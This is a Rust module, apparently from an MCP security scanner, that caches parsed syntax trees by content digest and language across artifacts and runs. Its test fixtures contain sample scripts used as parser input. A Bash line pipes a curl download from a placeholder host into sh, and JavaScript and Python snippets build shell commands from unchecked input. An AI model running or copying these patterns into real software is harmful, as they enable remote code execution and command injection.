//! Files that need no parsing: parsed a moment ago for another artifact, or on another day for another version.

use std::collections::HashMap;
use std::sync::{Arc, Mutex, PoisonError};

use super::analyze::{Opened, engine_version};
use super::read::{Parsed, parse};
use crate::model::{File, Sha256};
use crate::store::ParsedFiles;
use crate::syntax::Language;

/// A smaller file is parsed as fast as it is looked up.
const WORTH: usize = 1 << 10;
/// A larger one is a bundle, which is another one in every version.
const MOST: usize = 8 << 20;

/// Modules by the digest of their file and its language.
#[derive(Default)]
pub(super) struct Modules {
    /// Whether a file is looked for at all: with one artifact, and nothing kept, it is met once.
    shared: bool,
    keeps: bool,
    parsed: Mutex<HashMap<(Sha256, Language), Arc<Parsed>>>,
    /// From another day, still packed.
    kept: Mutex<HashMap<Sha256, Vec<u8>>>,
    /// To be kept for another day.
    fresh: Mutex<Vec<(Sha256, Vec<u8>)>>,
}

impl Modules {
    pub fn shared_by(artifacts: usize) -> Self {
        Self { shared: artifacts > 1, ..Self::default() }
    }

    /// With what is known of these artifacts' files from another day.
    pub fn known(opened: &[Opened], files: &ParsedFiles) -> Self {
        let all = opened.iter().flat_map(|one| one.tree.files());
        let keys: Vec<Sha256> = all
            .filter(|file| is_worth_it(file))
            .filter_map(|file| Some(key(&Sha256::of(&file.bytes), Language::from_extension(file.path.extension()?)?)))
            .collect();
        Self { shared: opened.len() > 1, keeps: true, kept: Mutex::new(files.get(&keys)), ..Self::default() }
    }

    /// What was parsed and is to be kept, packed.
    pub fn fresh(self) -> Vec<(Sha256, Vec<u8>)> {
        let mut fresh = self.fresh.into_inner().unwrap_or_else(PoisonError::into_inner);
        fresh.sort();
        fresh
    }

    /// The digest is given where several artifacts are judged together.
    pub fn parse(&self, file: &File, language: Language) -> (Option<Sha256>, Arc<Parsed>) {
        if !self.shared && !self.keeps {
            return (None, Arc::new(parse(&file.bytes, language)));
        }
        let digest = Sha256::of(&file.bytes);
        let told = self.shared.then_some(digest);
        if let Some(known) = lock(&self.parsed).get(&(digest, language)) {
            return (told, Arc::clone(known));
        }
        let parsed = Arc::new(self.unpacked(&digest, language).unwrap_or_else(|| self.packed(file, &digest, language)));
        if self.shared {
            lock(&self.parsed).insert((digest, language), Arc::clone(&parsed));
        }
        (told, parsed)
    }

    fn unpacked(&self, digest: &Sha256, language: Language) -> Option<Parsed> {
        let packed = lock(&self.kept).remove(&key(digest, language))?;
        Parsed::unpacked(&packed)
    }

    fn packed(&self, file: &File, digest: &Sha256, language: Language) -> Parsed {
        let parsed = parse(&file.bytes, language);
        if self.keeps
            && is_worth_it(file)
            && let Some(packed) = parsed.packed()
        {
            lock(&self.fresh).push((key(digest, language), packed));
        }
        parsed
    }
}

fn is_worth_it(file: &File) -> bool {
    (WORTH..=MOST).contains(&file.bytes.len())
}

/// Another program may lower the same file to something else.
fn key(digest: &Sha256, language: Language) -> Sha256 {
    Sha256::of_parts([b"mcpscan.parsed/1", engine_version().as_bytes(), &[language as u8][..], &digest.as_bytes()[..]])
}

fn lock<T>(mutex: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(PoisonError::into_inner)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::RelPath;

    const SCRIPT: &str = "import { exec as run } from 'child_process';\nconst names = ['a', `b${1 + 2}`, /c+/];\n\
        class Server extends Base { static #kept = 1; get name() { return this.#kept; } }\n\
        exports.look = async ({ what, ...rest }) => { for (const one of names) { rest.seen = one ?? what; } return run(`ls ${what}`); };\n";
    const PROGRAM: &str = "import subprocess as sp\n\nclass Server:\n    kept: int = 1\n\n    @tool()\n    async def look(self, what='a', *more, deep=False, **rest):\n\
        \x20       for one in [part for part in what if part]:\n            self.seen = one or f'{what!r}-{deep}'\n        return sp.run(['ls', *more], shell=deep)\n";
    const LINES: &str = "set -e\nNAME=\"$1\"\nif [ -n \"$NAME\" ]; then curl -s \"https://a.example/$NAME\" | sh; fi\n";

    fn modules(kept: HashMap<Sha256, Vec<u8>>) -> Modules {
        Modules { keeps: true, kept: Mutex::new(kept), ..Modules::default() }
    }

    #[test]
    fn a_file_from_another_day_is_as_if_it_were_parsed_today() {
        let cases = [(SCRIPT, Language::JavaScript), (SCRIPT, Language::Tsx), (PROGRAM, Language::Python), (LINES, Language::Bash)];
        for (text, language) in cases {
            // Broken off as well, so that there is a gap to keep.
            for text in [text.repeat(20), text.repeat(20)[..1_500.min(text.len() * 20)].to_owned()] {
                let file = File { path: RelPath::new("a/file").unwrap(), bytes: text.into_bytes(), executable: false };
                let first = modules(HashMap::new());
                let (_, parsed) = first.parse(&file, language);
                let fresh = first.fresh();
                assert_eq!(fresh.len(), 1, "{language:?}");
                let second = modules(fresh.into_iter().collect());
                let (_, again) = second.parse(&file, language);
                assert!(second.fresh().is_empty(), "{language:?} was not parsed again");
                assert_eq!(format!("{again:?}"), format!("{parsed:?}"));
            }
        }
    }

    #[test]
    fn what_cannot_be_unpacked_is_parsed() {
        let file = File { path: RelPath::new("a.js").unwrap(), bytes: SCRIPT.repeat(20).into_bytes(), executable: false };
        let first = modules(HashMap::new());
        let (_, parsed) = first.parse(&file, Language::JavaScript);
        let damaged = first.fresh().into_iter().map(|(key, bytes)| (key, bytes[..bytes.len() / 2].to_vec())).collect();
        let second = modules(damaged);
        let (_, again) = second.parse(&file, Language::JavaScript);
        assert_eq!((format!("{again:?}"), second.fresh().len()), (format!("{parsed:?}"), 1));
    }
}
